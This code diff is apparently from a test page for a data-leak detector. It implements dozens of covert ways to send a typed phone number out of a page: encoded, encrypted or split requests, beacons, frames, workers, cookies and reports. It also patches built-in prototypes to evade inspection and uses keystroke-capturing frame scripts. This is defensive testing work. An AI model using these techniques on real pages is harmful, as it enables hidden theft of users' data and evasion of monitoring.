@@ -45,6 +45,13 @@ function collect() {
       // Of another origin: it sends for itself.
     }
   }
+  // A number begun in one place and ended in another.
+  out.push(
+    out
+      .slice(2)
+      .filter((one) => /^\d{1,11}$/.test(one ?? ''))
+      .join(''),
+  )
   return out.filter(Boolean).join(' | ')
 }
 
@@ -73,7 +80,8 @@ const formOf = (text, attributes = {}) => {
 
 /** Ways out. Each gets what the page holds. */
 const exits = {
-  'fetch-json': (t) => post('/x/json', JSON.stringify({ phone: t }), { headers: { 'content-type': 'application/json' } }),
+  'fetch-json': (t) =>
+    post('/x/json', JSON.stringify({ phone: t }), { headers: { 'content-type': 'application/json' } }),
   'fetch-text': (t) => post('/x/text', t),
   'fetch-params': (t) => post('/x/params', new URLSearchParams({ phone: t })),
   'fetch-multipart': (t) => {
@@ -95,9 +103,21 @@ const exits = {
   'fetch-json-escapes': (t) =>
     post('/x/escaped', `{"p":"${[...t].map((c) => `\\u00${c.charCodeAt(0).toString(16)}`).join('')}"}`),
   'fetch-digits-list': (t) => post('/x/list', JSON.stringify([...t].map(Number))),
-  'fetch-fullwidth': (t) => post('/x/wide-digits', t.replace(/\d/g, (d) => String.fromCharCode(0xff10 + +d))),
-  'fetch-chinese': (t) => post('/x/han', t.replace(/\d/g, (d) => '零一二三四五六七八九'[+d])),
-  'fetch-arabic': (t) => post('/x/arabic', t.replace(/\d/g, (d) => String.fromCharCode(0x660 + +d))),
+  'fetch-fullwidth': (t) =>
+    post(
+      '/x/wide-digits',
+      t.replace(/\d/g, (d) => String.fromCharCode(0xff10 + +d)),
+    ),
+  'fetch-chinese': (t) =>
+    post(
+      '/x/han',
+      t.replace(/\d/g, (d) => '零一二三四五六七八九'[+d]),
+    ),
+  'fetch-arabic': (t) =>
+    post(
+      '/x/arabic',
+      t.replace(/\d/g, (d) => String.fromCharCode(0x660 + +d)),
+    ),
   'fetch-dashes': (t) => post('/x/dashes', `tel +86 ${t.replace(/(\d{3})(\d{4})(\d{4})/, '$1-$2-$3')}`),
   'fetch-zero-width': (t) => post('/x/zero', [...t].join('\u200b')),
   'fetch-hex': (t) => post('/x/hex', toHex(bytes(t))),
@@ -107,8 +127,13 @@ const exits = {
     return post('/x/gzip', await new Response(stream).arrayBuffer())
   },
   'fetch-encrypted': async (t) => {
-    const key = await crypto.subtle.importKey('raw', new Uint8Array(16).fill(7), 'AES-CBC', false, ['encrypt'])
-    return post('/x/aes', await crypto.subtle.encrypt({ name: 'AES-CBC', iv: new Uint8Array(16) }, key, bytes(t)))
+    const key = await crypto.subtle.importKey('raw', new Uint8Array(16).fill(7), 'AES-CBC', false, [
+      'encrypt',
+    ])
+    return post(
+      '/x/aes',
+      await crypto.subtle.encrypt({ name: 'AES-CBC', iv: new Uint8Array(16) }, key, bytes(t)),
+    )
   },
   'fetch-split': async (t) => {
     const half = Math.ceil(t.length / 2)
@@ -181,9 +206,12 @@ const exits = {
   'image-dots': (t) => {
     new Image().src = `/x/image.png?p=${[...t].join('.')}`
   },
-  script: (t) => document.body.append(Object.assign(document.createElement('script'), { src: `/x/s.js?p=${t}` })),
+  script: (t) =>
+    document.body.append(Object.assign(document.createElement('script'), { src: `/x/s.js?p=${t}` })),
   stylesheet: (t) =>
-    document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `/x/s.css?p=${t}` })),
+    document.head.append(
+      Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `/x/s.css?p=${t}` }),
+    ),
   'image-eight': (t) => {
     new Image().src = `/x/image.png?p=${t.slice(1, 9)}`
   },
@@ -198,20 +226,36 @@ const exits = {
   },
   'iframe-src': (t) => frameWith({ src: `/x/frame?p=${t}` }),
   'iframe-srcdoc-image': (t) => frameWith({ srcdoc: `<img src="${location.origin}/x/doc?p=${t}">` }),
-  prefetch: (t) => document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: `/x/pre?p=${t}` })),
+  prefetch: (t) =>
+    document.head.append(
+      Object.assign(document.createElement('link'), { rel: 'prefetch', href: `/x/pre?p=${t}` }),
+    ),
   preload: (t) =>
-    document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'image', href: `/x/preload?p=${t}` })),
+    document.head.append(
+      Object.assign(document.createElement('link'), {
+        rel: 'preload',
+        as: 'image',
+        href: `/x/preload?p=${t}`,
+      }),
+    ),
   prerender: (t) => {
     const rules = document.createElement('script')
     rules.type = 'speculationrules'
-    rules.textContent = JSON.stringify({ prerender: [{ source: 'list', urls: [`/x/prerender?p=${t}`], eagerness: 'immediate' }] })
+    rules.textContent = JSON.stringify({
+      prerender: [{ source: 'list', urls: [`/x/prerender?p=${t}`], eagerness: 'immediate' }],
+    })
     document.head.append(rules)
   },
   import: (t) => import(`/x/module.js?p=${t}`).catch(() => undefined),
   font: (t) => new FontFace('x', `url(/x/font?p=${t})`).load().catch(() => undefined),
   'event-source': (t) => new EventSource(`/x/events?p=${t}`),
   'meta-refresh': (t) => {
-    document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=/x/meta?p=${t}` }))
+    document.head.append(
+      Object.assign(document.createElement('meta'), {
+        httpEquiv: 'refresh',
+        content: `0;url=/x/meta?p=${t}`,
+      }),
+    )
   },
   cookie: (t) => {
     // biome-ignore lint/suspicious/noDocumentCookie: the attack
@@ -239,14 +283,15 @@ const exits = {
     new Worker(URL.createObjectURL(new Blob([source])))
   },
   'blob-frame': (t) => {
-    const page = `<script>fetch('${location.origin}/x/blob-frame',{method:'POST',mode:'no-cors',body:'${t}'})<\/script>`
+    const page = `<script>fetch('${location.origin}/x/blob-frame',{method:'POST',mode:'no-cors',body:'${t}'})</script>`
     frameWith({ src: URL.createObjectURL(new Blob([page], { type: 'text/html' })) })
   },
   'broadcast-frame': (t) => new BroadcastChannel('relay').postMessage(t),
   'port-frame': (t) => state.port.postMessage(t),
   'message-cross': (t) => state.cross.contentWindow.postMessage(`relay:${t}`, '*'),
   'message-same': (t) => state.same.contentWindow.postMessage(`relay:${t}`, '*'),
-  'blank-fetch': (t) => frameWith({}).contentWindow.fetch(`${location.origin}/x/blank`, { method: 'POST', body: t }),
+  'blank-fetch': (t) =>
+    frameWith({}).contentWindow.fetch(`${location.origin}/x/blank`, { method: 'POST', body: t }),
   'blank-xhr': (t) => {
     const request = new (frameWith({}).contentWindow.XMLHttpRequest)()
     request.open('POST', `${location.origin}/x/blank`)
@@ -265,21 +310,23 @@ const exits = {
   },
   'write-after-load': (t) => {
     document.open()
-    document.write(`<form id=f method=post action=/x/written><input name=p value="${t}"></form><script>f.submit()<\/script>`)
+    document.write(
+      `<form id=f method=post action=/x/written><input name=p value="${t}"></form><script>f.submit()</script>`,
+    )
     document.close()
   },
   'write-image': (t) => document.write(`<img src="/x/written?p=${t}">`),
   'write-in-frame': (t) => {
     const frame = frameWith({})
     frame.contentDocument.open()
-    frame.contentDocument.write(`<script>fetch('${location.origin}/x/in-frame',{method:'POST',body:'${t}'})<\/script>`)
+    frame.contentDocument.write(
+      `<script>fetch('${location.origin}/x/in-frame',{method:'POST',body:'${t}'})</script>`,
+    )
     frame.contentDocument.close()
   },
   'patched-prototypes': (t) => {
     // What a page would patch to fool whoever looks at its bodies.
-    String.prototype.replace = function () {
-      return ''
-    }
+    String.prototype.replace = () => ''
     String.prototype.matchAll = () => [][Symbol.iterator]()
     RegExp.prototype.test = () => false
     RegExp.prototype.exec = () => null
@@ -345,8 +392,10 @@ const exits = {
   },
   'from-storage': () => post('/x/stored', localStorage.getItem('phone')),
   'clipboard-write': (t) => navigator.clipboard.writeText(t),
-  'reporting': (t) => {
-    const frame = frameWith({ srcdoc: `<meta http-equiv="content-security-policy" content="img-src 'none'; report-uri /x/report"><img src="/pixel?p=${t}">` })
+  reporting: (t) => {
+    const frame = frameWith({
+      srcdoc: `<meta http-equiv="content-security-policy" content="img-src 'none'; report-uri /x/report"><img src="/pixel?p=${t}">`,
+    })
     return loaded(frame)
   },
 }
@@ -389,7 +438,7 @@ const before = {
   'service-worker-fetch': register,
   'broadcast-frame': async () => {
     const frame = frameWith({
-      srcdoc: `<script>new BroadcastChannel('relay').onmessage=({data})=>fetch('/x/broadcast',{method:'POST',body:[...data].map(c=>c.charCodeAt(0).toString(16)).join('')})<\/script>`,
+      srcdoc: `<script>new BroadcastChannel('relay').onmessage=({data})=>fetch('/x/broadcast',{method:'POST',body:[...data].map(c=>c.charCodeAt(0).toString(16)).join('')})</script>`,
     })
     await loaded(frame)
   },
@@ -503,12 +552,21 @@ const stages = {
     // Stops every event before anybody below the window can see it.
     for (const type of ['keydown', 'beforeinput', 'input', 'paste'])
       window.addEventListener(type, (event) => event.stopImmediatePropagation(), true)
-    addEventListener('keyup', () => {
-      state.values = `${state.values ?? ''}|${$('text').value}`
-    }, true)
+    addEventListener(
+      'keyup',
+      () => {
+        state.values = `${state.values ?? ''}|${$('text').value}`
+      },
+      true,
+    )
   },
   frozen() {
-    Object.defineProperty(HTMLInputElement.prototype, 'value', { set() {}, get() { return '' } })
+    Object.defineProperty(HTMLInputElement.prototype, 'value', {
+      set() {},
+      get() {
+        return ''
+      },
+    })
     const get = (field) => new FormData(Object.assign(document.createElement('form'))) && field
     void get
   },
@@ -523,7 +581,7 @@ function shadow(mode) {
 }
 /** A page for a frame that cannot be read from outside: it sends by itself what is in its field, as hex. */
 function sender(name) {
-  return `<input id="inner"><script>const f=document.getElementById('inner');let k='';f.addEventListener('keydown',e=>{if(e.key.length===1)k+=e.key});f.addEventListener('keyup',()=>{if(f.value.length>7||k.length>7)fetch('${location.origin}/x/${name}',{method:'POST',mode:'no-cors',body:[...(f.value+'|'+k)].map(c=>c.charCodeAt(0).toString(16)).join('')})})<\/script>`
+  return `<input id="inner"><script>const f=document.getElementById('inner');let k='';f.addEventListener('keydown',e=>{if(e.key.length===1)k+=e.key});f.addEventListener('keyup',()=>{if(f.value.length>7||k.length>7)fetch('${location.origin}/x/${name}',{method:'POST',mode:'no-cors',body:[...(f.value+'|'+k)].map(c=>c.charCodeAt(0).toString(16)).join('')})})</script>`
 }
 
 function wire() {
